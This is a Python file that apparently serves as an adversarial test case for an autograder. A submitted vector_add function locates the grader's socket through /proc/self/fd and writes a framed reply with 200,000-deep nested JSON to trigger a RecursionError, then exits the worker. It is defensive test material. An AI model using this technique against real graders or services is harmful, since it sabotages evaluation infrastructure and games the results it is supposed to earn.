# ATTACK (abort): a reply whose JSON nests lists 200,000 deep (RecursionError when decoded).
# Written straight to the grader's socket (found in /proc/self/fd) from inside vector_add, well framed
# (8-byte lengths, as autograder.wire frames), then the worker exits.
# A secure grader: `autograder grade` exits 0, this submission is in grades.csv with 0 points, and the
# other submissions of the batch are graded as usual.
import os
import stat
import struct

HEADER = b'[' * 200_000 + b']' * 200_000
BLOBS = []


def _socket_fd():
    for name in sorted(os.listdir("/proc/self/fd"), key=lambda s: int(s) if s.isdigit() else 0):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                return int(name)
        except (OSError, ValueError):
            continue
    return None


def _frame(data: bytes) -> bytes:
    return struct.pack("<Q", len(data)) + data


def vector_add(a, b, out):
    fd = _socket_fd()
    if fd is None:
        print("ATTACK: no socket found", flush=True)
        return
    view = memoryview(_frame(HEADER) + _frame(struct.pack("<I", len(BLOBS))) + b"".join(_frame(x) for x in BLOBS))
    while view:
        view = view[os.write(fd, view):]
    print("ATTACK: malformed reply written", flush=True)
    os._exit(0)
